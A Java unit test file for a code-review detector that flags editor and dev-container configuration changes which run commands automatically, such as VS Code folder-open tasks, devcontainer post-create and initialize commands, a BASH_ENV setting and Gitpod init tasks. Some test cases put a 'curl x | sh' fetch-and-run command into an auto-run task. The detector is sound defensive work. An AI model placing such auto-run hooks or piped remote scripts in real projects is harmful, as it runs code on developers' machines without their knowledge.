package dev.countersign.detect;

import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.detect.autorun.EditorAutoRun;
import dev.countersign.risk.Lane;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class EditorAutoRunTest extends DetectorTable {
    private static final String BY_HAND = """
            {
              "version": "2.0.0",
              "tasks": [
                {
                  "label": "build",
                  "type": "shell",
                  "command": "make"
                }
              ]
            }
            """;
    private static final String ON_OPENING = BY_HAND.replace(
            "\"command\": \"make\"", "\"command\": \"make\",\n      \"runOptions\": { \"runOn\": \"folderOpen\" }");
    private static final String CONTAINER = "{\n  // one image for all\n  \"image\": \"x:1\",\n}\n";
    private static final String PREPARED =
            CONTAINER.replace("\"x:1\",", "\"x:1\",\n  \"postCreateCommand\": \"npm ci\",");

    @Override
    Detector detector() {
        return new EditorAutoRun();
    }

    /// Back to the old command is another command as well.
    @Override
    boolean wayBackIsHarmless() {
        return false;
    }

    @Override
    List<Case> positives() {
        return List.of(
                Case.of("task that runs on opening")
                        .added(".vscode/tasks.json", ON_OPENING)
                        .sees(FactKind.AUTO_RUN, 7),
                Case.of("task that was started by hand")
                        .modified(".vscode/tasks.json", BY_HAND, ON_OPENING)
                        .sees(FactKind.AUTO_RUN, 8),
                Case.of("another command of such a task")
                        .modified(".vscode/tasks.json", ON_OPENING, ON_OPENING.replace("make", "curl x | sh"))
                        .sees(FactKind.AUTO_RUN, 7),
                Case.of("what such a task depends on")
                        .modified(".vscode/tasks.json", depending("make"), depending("curl x | sh"))
                        .sees(FactKind.AUTO_RUN, 3),
                Case.of("in a workspace")
                        .added("shop.code-workspace", "{\n\"tasks\": " + ON_OPENING + "}\n")
                        .sees(FactKind.AUTO_RUN, 0),
                Case.of("command after the container was made")
                        .modified(".devcontainer/devcontainer.json", CONTAINER, PREPARED)
                        .sees(FactKind.AUTO_RUN, 4),
                Case.of("command on the developer's own machine")
                        .modified(
                                ".devcontainer.json",
                                CONTAINER,
                                PREPARED.replace("postCreateCommand", "initializeCommand"))
                        .sees(FactKind.AUTO_RUN, 4),
                Case.of("commands by name")
                        .modified(
                                ".devcontainer/web/devcontainer.json",
                                PREPARED,
                                PREPARED.replace("\"npm ci\"", "{\"a\": \"npm ci\", \"b\": [\"sh\", \"x.sh\"]}"))
                        .sees(FactKind.AUTO_RUN, 4),
                Case.of("variable of every terminal")
                        .modified(
                                ".vscode/settings.json",
                                "{\n}\n",
                                "{\n\"terminal.integrated.env.linux\": {\"BASH_ENV\": \"./x.sh\"}\n}\n")
                        .sees(FactKind.AUTO_RUN, 2),
                Case.of("task of Gitpod")
                        .added(".gitpod.yml", "tasks:\n  - init: npm ci\n")
                        .sees(FactKind.AUTO_RUN, 2),
                Case.of("file that cannot be read to its end")
                        .modified(".devcontainer/devcontainer.json", CONTAINER, PREPARED.replace("}\n", "{\"\n"))
                        .sees(FactKind.AUTO_RUN, 4));
    }

    private static String depending(String command) {
        return """
                {
                  "tasks": [
                    {"label": "a", "command": "%s"},
                    {"label": "b", "dependsOn": ["a"], "runOptions": {"runOn": "folderOpen"}}
                  ]
                }
                """.formatted(command);
    }

    @Override
    List<Case> lookAlikes() {
        return List.of(
                Case.of("task for the hand").added(".vscode/tasks.json", BY_HAND),
                Case.of("another command of a task for the hand")
                        .modified(".vscode/tasks.json", BY_HAND, BY_HAND.replace("make", "make all")),
                Case.of("task that no longer runs on opening").modified(".vscode/tasks.json", ON_OPENING, BY_HAND),
                Case.of("label of a task")
                        .modified(".vscode/tasks.json", ON_OPENING, ON_OPENING.replace("\"build\"", "\"all\"")),
                Case.of("image of the container")
                        .modified(".devcontainer/devcontainer.json", PREPARED, PREPARED.replace("x:1", "x:2")),
                Case.of("a comment")
                        .modified(
                                ".devcontainer/devcontainer.json", PREPARED, PREPARED.replace("one image", "an image")),
                Case.of("command that goes").modified(".devcontainer/devcontainer.json", PREPARED, CONTAINER),
                Case.of("size of the terminal's letters")
                        .modified(
                                ".vscode/settings.json",
                                "{\n}\n",
                                "{\n\"terminal.integrated.fontSize\": 12,\n\"editor.tabSize\": 2\n}\n"),
                Case.of("tasks of something else").added("web/tasks.json", ON_OPENING));
    }

    @ParameterizedTest
    @CsvSource({".devcontainer/devcontainer.json, SECURITY", "examples/a/.devcontainer/devcontainer.json, PEER"})
    void commandIsForSecurityWhereSomebodyOpensIt(String path, Lane lane) {
        var draft = Draft.of(Case.of(path).modified(path, CONTAINER, PREPARED)).saying("Prepare the container");

        assertThat(new RealReview().of(draft).tableLane()).isEqualTo(lane);
    }
}
